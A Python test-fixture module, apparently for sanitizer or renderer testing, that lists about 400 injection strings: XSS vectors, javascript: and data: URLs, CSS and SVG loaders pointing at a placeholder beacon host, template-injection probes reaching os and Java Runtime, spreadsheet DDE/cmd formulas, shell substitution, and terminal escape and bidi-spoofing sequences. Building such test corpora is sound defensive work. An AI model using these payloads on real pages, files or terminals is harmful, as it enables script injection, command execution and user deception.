"""Some 400 texts that are commands somewhere: in a page, an address, a style, a template, a wiki, a table, a terminal."""

# ruff: noqa: E501 - rows of odd texts are easier to read on one line
from __future__ import annotations

from itertools import product

RAN = "globalThis.ran=1"
BEACON = "http://beacon.invalid/"
"""Nothing on a page may ever ask for anything there."""


def _html() -> list[str]:
    tags = ("img src=x onerror", "svg onload", "body onload", "video><source onerror", "details open ontoggle", "input autofocus onfocus",
            "marquee onstart", "audio src=x onerror", "iframe srcdoc='<script>parent.ran=1</script>' onload", "object data=x onerror",
            "select autofocus onfocus", "textarea autofocus onfocus", "keygen autofocus onfocus", "x onclick", "a onmouseover",
            "style onload", "link rel=stylesheet href=x onerror", "math onload", "embed src=x onload", "button autofocus onfocus")  # fmt: skip
    found = [f"<{tag}={RAN}>" for tag in tags]
    found += [f"<{tag}='{RAN}' x='" for tag in tags[:10]]
    found += [f"<script>{RAN}</script>", f"<ScRiPt>{RAN}</sCrIpT>", f"<script src={BEACON}a.js></script>", f"<<script>{RAN}//<</script>",
              f"<script\x0c>{RAN}</script>", f"<script/x>{RAN}</script>", f"</title><script>{RAN}</script>", f"</script><script>{RAN}</script>",
              f"</style><script>{RAN}</script>", f"</textarea><script>{RAN}</script>", f"--><script>{RAN}</script>", f"]]><script>{RAN}</script>",
              f"<!--<script>{RAN}</script>", f"<noscript><p title='</noscript><img src=x onerror={RAN}>'>", f"<plaintext><script>{RAN}",
              f"<base href={BEACON}>", f"<meta http-equiv=refresh content='0;url={BEACON}m'>", f"<link rel=prefetch href={BEACON}p>",
              f"<iframe src={BEACON}i></iframe>", f"<form action={BEACON}f><input type=submit></form>", f"<img srcset='{BEACON}s 1x'>",
              f"<picture><source srcset={BEACON}q><img></picture>", f"<audio autoplay src={BEACON}b></audio>", f"<isindex action={BEACON}>",
              f"<template><script>{RAN}</script></template>", f"<table background={BEACON}t>", f"<body background={BEACON}y>"]  # fmt: skip
    found += [
        f"&lt;script&gt;{RAN}&lt;/script&gt;",
        f"&#60;script&#62;{RAN}&#60;/script&#62;",
        f"%3Cscript%3E{RAN}%3C/script%3E",
        f"\\u003cscript\\u003e{RAN}\\u003c/script\\u003e",
        f"\uff1cscript\uff1e{RAN}\uff1c/script\uff1e",
        f"<scr<script>ipt>{RAN}</script>",
    ]
    return found


def _attributes() -> list[str]:
    events = (
        "onmouseover",
        "onfocus autofocus",
        "onerror",
        "style=animation-name:x onanimationstart",
        "onpointerenter",
    )
    return [
        f"{quote}{gap}{event}={RAN}{gap}x={quote}"
        for quote, gap, event in product(("'", '"', "`"), (" ", "/", "\t"), events)
    ]


def _schemes() -> list[str]:
    names = ("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:", " javascript:", "javascript&colon;", "&#106;avascript:",
             "vbscript:", "livescript:", "view-source:javascript:", "feed:javascript:")  # fmt: skip
    found = [f"{name}{RAN}" for name in names]
    found += [
        f"data:text/html,<script>parent.{RAN}</script>",
        f"data:image/svg+xml,<svg onload={RAN}>",
        f"blob:{BEACON}",
        f"file:///etc/passwd {BEACON}",
    ]
    wrapped = [f"[click](javascript:{RAN})", f"![x]({BEACON}md.png)", f"<javascript:{RAN}>", f"[x]: javascript:{RAN}", f"https://a.example/\" onclick={RAN} x=\"",
               f"https://a.example/'><img src=x onerror={RAN}>", f"http://javascript:{RAN}@a.example/", "[a](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4=)"]  # fmt: skip
    return found + wrapped


def _styles_and_svg() -> list[str]:
    return [
        f"<style>@import '{BEACON}c.css';</style>", f"<div style='background:url({BEACON}u)'>x</div>", f"<p style=\"behavior:url({BEACON}h)\">",
        f"</style><style>*{{background:url({BEACON}z)}}", f"<style>@font-face{{font-family:x;src:url({BEACON}f)}}*{{font-family:x}}</style>",
        "<style>body{display:none}</style>", "position:fixed;inset:0", f"expression({RAN})", f"}} * {{ background: url({BEACON}k)", f"url(javascript:{RAN})",
        f"<svg><script>{RAN}</script></svg>", f"<svg><a xlink:href='javascript:{RAN}'><text>x</text></a></svg>", f"<svg><use href='{BEACON}v#x'/></svg>",
        f"<svg><image href='{BEACON}w'/></svg>", f"<svg><animate onbegin={RAN} attributeName=x dur=1s>", f"<svg><set onbegin={RAN} attributeName=x>",
        f"<svg><foreignObject><script>{RAN}</script></foreignObject></svg>", f"<svg><style>*{{background:url({BEACON}g)}}</style></svg>",
        f"<math><mtext></form><form><mglyph><style></math><img src onerror={RAN}>", f"</svg><script>{RAN}</script>", f"<svg/onload={RAN}//",
        f"<?xml-stylesheet href='{BEACON}x.xsl'?>", f"<!DOCTYPE x [<!ENTITY e SYSTEM '{BEACON}e'>]>&e;",
    ]  # fmt: skip


def _templates() -> list[str]:
    return [
        "{{7*191}}", "{{ config }}", "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}", "{{''.__class__.__mro__}}", "{# gone #}",
        "${7*191}", "#{7*191}", "<%= 7*191 %>", "{{{7*191}}}", "{%raw%}", "{% endraw %}{{7*191}}", "{{cycler.__init__.__globals__.os}}", "$(touch owned)",
        "`touch owned`", "%(x)s", "{0.__class__}", "{x!r}", "%n%n%s%s", "[[${7*191}]]", "{{constructor.constructor('globalThis.ran=1')()}}", "<#assign x=1>",
    ]  # fmt: skip


def _wikis() -> list[str]:
    media = ["[[File:a.png]]", "[[Category:Owned]]", "{{Delete}}", "{{:Main Page}}", "~~~~", "~~~", "'''bold'''", "== Head ==", "<nowiki>", "</nowiki>{{Delete}}",
             f"<html><script>{RAN}</script></html>", "<ref>x</ref>", "{|\n|x\n|}", "__NOTOC__", "#REDIRECT [[Owned]]", "<pre>", "<includeonly>", "{{#if:1|x}}",
             "{{subst:x}}", "[[Special:Logout]]", "* list", "; term", "----", f"[{BEACON} x]", "ISBN 0123456789", "RFC 1149", "<tag name='html'>"]  # fmt: skip
    doku = ["%%", "%%{{a.png}}", "{{a.png}}", f"{{{{{BEACON}a.png}}}}", "[[start]]", "~~NOCACHE~~", "~~INFO:syntaxplugins~~", "<php>echo 1</php>", "<PHP>x</PHP>",
            f"<html>{RAN}</html>", "<file>", "</code>", "{{rss>http://beacon.invalid/}}", "====== Head ======", "  * list", "^ a ^ b ^", "((note))", "\\\\ ", "//it//"]  # fmt: skip
    confluence = ["{html}x{html}", "<ac:structured-macro ac:name=\"html\"/>", "]]></ac:plain-text-body>", "{code}", "h1. Head", "[~admin]", "<ri:user ri:userkey=\"x\"/>",
                  "!a.png!", "{color:red}", "<ac:link><ri:page ri:content-title=\"Owned\"/></ac:link>"]  # fmt: skip
    markdown = ["# Head", "> quote", "```\ncode", "---\ntitle: x\n---", "| a | b |\n|---|---|", "![a](a.png)", "[a][b]\n\n[b]: /owned", "<details>", "- [ ] task",
                "@all", ":tada:", "[[_TOC_]]", "$$x$$", "```mermaid\ngraph TD\n```", "[^1]: note", "&nbsp;", "\\<script>", "***"]  # fmt: skip
    return media + doku + confluence + markdown


def _tables() -> list[str]:
    starts = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\uff1d", '"=', "'=", ";=", ",=")
    bodies = ("1+1", "cmd|' /C calc'!A0", f'HYPERLINK("{BEACON}","x")', f'IMPORTXML("{BEACON}","//a")')
    return [start + body for start, body in product(starts, bodies)]


def _terminals() -> list[str]:
    escapes = ["\x1b[31mred", "\x1b]0;title\x07", "\x1b[2J", "\x1b]8;;http://beacon.invalid/\x1b\\x", "\x9b31m", "\x07", "\x08\x08\x08", "\r overwritten",
               "\x1bP+q\x1b\\", "\x1b[6n", "\x00", "\x7f", "\x85next", "\u2028line", "\u2029para", "\x0b", "\x0c"]  # fmt: skip
    turns = ["\u202egnp.exe", "\u202aabc", "\u202babc", "\u202dabc", "\u2066abc", "\u2067abc", "\u2068abc", "\u2069abc", "\u200eabc", "\u200fabc", "\u061cabc",
             "\ufeffabc", "a\u200bb", "a\u0301" * 60, "\u0627\u0628 abc \u202c", "\U000e0041\U000e0042", "\ufff9a\ufffab\ufffb"]  # fmt: skip
    hidden = ["\x1b]52;c;cm0gLXJm\x07", "\x1b]1337;File=inline=1:AAAA\x07", "\x1b[?1049h\x1b[H", "\x1b[8m hidden", "\x1bc", "\x1b[3J", "\x9d0;title\x9c",
              "\x90q\x9c", "a\rb\x1b[K", "\x1b[1A\x1b[2K", "\x1b[201~rm\n", "\u200babc", "\u200cabc", "\u2060abc", "\u00adabc", "\u180eabc", "\u2062abc",
              "\U000e0049\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065", "\ufffcabc", "\u3164abc", "a\u0489" * 40, "\u2067\u202e\u2066" * 30]  # fmt: skip
    return escapes + turns + hidden


def _scripts() -> list[str]:
    """What ends a script, a style, a comment, a section or a string that a page may hold a text in."""
    return [f"</ScRiPt ><img src=x onerror={RAN}>", f"</script\n><script>{RAN}</script>", f"<!--<script><!--<script>{RAN}", f"--!><img src=x onerror={RAN}>",
            f"<!--><img src=x onerror={RAN}>", f"<!---><img src=x onerror={RAN}>", f"]]>]]><img src=x onerror={RAN}>", f"\u2028{RAN}\u2029", f"\\';{RAN}//",
            f"\\\\u0022;{RAN}//", f"'-{RAN}-'", f"`${{{RAN}}}`", f"*/{RAN}/*", f"//\n{RAN}", f"</noscript><img src=x onerror={RAN}>", f"</svg></math><img src=x onerror={RAN}>",
            f"</desc><script>{RAN}</script>", f"</text><a href='javascript:{RAN}'>", f"<title><!--</title><img src=x onerror={RAN}>-->", f"<iframe srcdoc=\"&lt;img src=x onerror=parent.{RAN}&gt;\">",
            f"<a href=\"{BEACON}ping\" ping=\"{BEACON}p\">x</a>", f"<link rel=dns-prefetch href={BEACON}d>", f"<link rel=preconnect href={BEACON}c>", f"<link rel=manifest href={BEACON}w>",
            f"<video poster={BEACON}v></video>", f"<input type=image src={BEACON}n>", f"<svg><feImage href='{BEACON}g'/></svg>", f"<style>a{{background:image-set('{BEACON}is' 1x)}}</style>",
            f"<object data='{BEACON}o'></object>", f"<embed src='{BEACON}em'>", f"<track src='{BEACON}tr'>", f"<html manifest={BEACON}mf>", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
            "<div popover id=x>x</div><button popovertarget=x>", "<dialog open>x</dialog>", "<form id=x></form><input form=x name=action>", "<a id=location name=location>", "<img name=ran>", "__proto__", "constructor",
            f"<div style=\"content:url({BEACON}ct)\">", f"<x style=animation:x onanimationend={RAN}>", f"<input onbeforeinput={RAN} autofocus>", f"<body onhashchange={RAN} onpageshow={RAN}>"]  # fmt: skip


def _cells() -> list[str]:
    """Formulas behind what a spreadsheet drops, or nobody sees."""
    before = (
        "\u200b",
        "\ufeff",
        "\u00a0",
        "\u3000",
        "\u2028",
        "\x0b",
        "\x0c",
        "\x00",
        "\x1f",
        "\u00ad",
        "\u2060",
        "  \t ",
        "\u202e",
        "''",
        "\x85",
    )
    return [f"{one}=1+1" for one in before] + ["\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "-2+3+cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "@SUM(1+1)*cmd|'x'!A0",
            f"=WEBSERVICE(\"{BEACON}ws\")", f"=IMAGE(\"{BEACON}im\")", "+A1", "-A1", "--1", "=\n1"]  # fmt: skip


def _calls() -> list[str]:
    """What pings a person or an issue, or is drawn, on the hosts of Git wikis."""
    return ["@octocat please", "@org/team", "org/repo#123", "GH-123", "#123 closes #4", "!12 &3 %4 ~bug", "- [ ] task\n- [x] done", "$$x^2$$", "```math\nx\n```", "> [!NOTE]\n> x",
            "<!-- sociable:end -->", "<!-- sociable:begin -->", "[[_TOC_]]", "::include{file=/etc/passwd}", "-{R|x}-", "{{#invoke:x|y}}", "~~META: title=x~~", "~~REDIRECT>x~~",
            "%%</nowiki>%%", "{{subst:x}}~~~~~", "<ac:task-list/>", "<ri:attachment ri:filename=\"x\"/>", "\x7f'\"`UNIQ--nowiki-00000000-QINU`\"'\x7f", "+++\nx = 1\n+++"]  # fmt: skip


def _later() -> list[str]:
    """Sixty more, each of a kind of its own: newer elements, addresses behind entities, marks of more than one reader."""
    html = [f"<search onclick={RAN}>", f"<img/src/onerror={RAN}//", f"<img src=x:x on\u0000error={RAN}>", f"<svg><animate attributeName=href values=javascript:{RAN} /><a id=x><text y=9>x",
            f"<template shadowrootmode=open><script>{RAN}</script></template>", f"<button commandfor=x command=show-modal></button><dialog id=x ontoggle={RAN}>",
            f"<details name=a open ontoggle={RAN}><summary>x", f"<fencedframe src={BEACON}ff>", f"<portal src={BEACON}po onload={RAN}>", f"<input type=hidden oncontentvisibilityautostatechange={RAN} style=content-visibility:auto>",
            f"<script type=speculationrules>{{\"prefetch\":[{{\"source\":\"list\",\"urls\":[\"{BEACON}sr\"]}}]}}</script>", f"<script type=importmap>{{\"imports\":{{\"x\":\"{BEACON}im.js\"}}}}</script>",
            f"<img src=x onerror\x0b={RAN}>", f"<math><maction actiontype=statusline xlink:href=javascript:{RAN}>x", f"<noembed><img title=\"</noembed><img src=x onerror={RAN}>\">",
            f"<xmp><img title=\"</xmp><img src=x onerror={RAN}>\">", f"<select><style></select><img src=x onerror={RAN}></style>", f"<table><td><svg><desc><td><img src=x onerror={RAN}>"]  # fmt: skip
    addresses = [f"https://a.example/?q=&quot;&gt;&lt;img src=x onerror={RAN}&gt;", f"java&NewLine;script&Tab;&colon;{RAN}", f"&#x6A&#x61&#x76&#x61script&#58;{RAN}", f"[x](<javascript:{RAN}>)",
                 f"[x](java\\script:{RAN})", f"[x]( \x01javascript:{RAN} 'y')", f"<a href=\"data:text/html;charset=utf-16,\x3c\x00script\x3e\x00{RAN}\">x</a>", f"data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>{RAN}</script></html>",
                 "https://xn--pple-43d.example/ https://\u0430pple.example/", "https://a.example\u2044path.beacon.invalid/", "https://a.example\uff0fbeacon.invalid/", "https://user:pass@beacon.invalid:80/%0d%0aSet-Cookie:x=1",
                 "//beacon.invalid/x", "\\\\beacon.invalid\\x", "https:beacon.invalid", "http:/\\beacon.invalid/"]  # fmt: skip
    styles = [f"<style>@layer x{{}}@import url({BEACON}ly) layer(x) supports(display:grid);</style>", f"<p style=\"--x:url({BEACON}va);background:var(--x)\">", f"\\75rl({BEACON}es)", f"<svg><filter><feImage xlink:href='{BEACON}fx'/></filter></svg>",
              f"<svg><pattern><image xlink:href='{BEACON}pa'/></pattern></svg>", f"<svg><a><animate attributeName=xlink:href to=javascript:{RAN} begin=0s /></a>", f"<link rel='stylesheet' href='data:text/css,*{{background:url({BEACON}dc)}}'>"]  # fmt: skip
    templates = [
        "{%- set x = 7*191 -%}{{x}}",
        "{{ self.__init__.__globals__ }}",
        "#set($x=7*191)$x",
        "<c:out value='${7*191}'/>",
        "{{=<% %>=}}<%7*191%>",
        "@{7*191}",
        "[[__${T(java.lang.Runtime)}__::.x]]",
    ]
    wikis = ["{{#widget:x}}", "{{filepath:a.png}}", "[[File:a.png|link=javascript:1]]", "<gallery mode=slideshow>a.png|[[x]]</gallery>", "<dynamicpagelist>category=x</dynamicpagelist>", "-{H|x:y}-", "{{data>x}}", "~~ODT~~<odt>x</odt>",
             "<sxh js>x</sxh>", "[[a.png|{{x}}]]", "<ac:structured-macro ac:name='include'><ac:parameter ac:name=''><ri:page ri:content-title='x'/></ac:parameter></ac:structured-macro>", "{viewfile:x}", "<custom data-type='smartlink'>x</custom>",
             "[!include[x](x.md)]", "```suggestion\nx\n```", "{::nomarkdown}<script>x</script>{:/}"]  # fmt: skip
    cells = [
        "\t\r=1+1",
        "\uff1d\uff0b1",
        "%=1+1",
        "=cmd|'/c calc'!_xlbgnm.A1",
        '=RTD("x",,"y")',
        "\U0001d7ce=1",
        "\ufe66=1+1",
        "\ufe621+1",
        "\ufe631+1",
        "\ufe6bSUM(1)",
        "\u22121+1",
        "\u2795=1",
    ]
    terminals = [
        "\x1b]8;id=a;file:///etc/passwd\x07x\x1b]8;;\x07",
        "\x1b]52;p;?\x1b\\",
        "\x1b]777;notify;a;b\x07",
        "\x1b]9;4;1;50\x07",
        "\x1b[>4;2m",
        "\x1b[18t\x1b[21t",
        "\x1b_Gf=24;AAAA\x1b\\",
        "\x1bX x\x1b\\",
        "\x1b^x\x1b\\",
        "\x1b%G\x1b(0lqk",
        "\x84\x8d\x8e",
        "\u2068\u202e\u2069a",
        "\U0001d173x\U0001d174",
        "\u17b4\u17b5x",
        "\u034fx",
        "\u2800\u115f\u1160\uffa0x",
        "\ufe0f\ufe00x",
        "\U000e0100x",
    ]
    return html + addresses + styles + templates + wikis + cells + terminals


KINDS = (
    _html,
    _attributes,
    _schemes,
    _styles_and_svg,
    _templates,
    _wikis,
    _tables,
    _terminals,
    _scripts,
    _cells,
    _calls,
    _later,
)
STRINGS: tuple[str, ...] = tuple(dict.fromkeys(one for kind in KINDS for one in kind()))
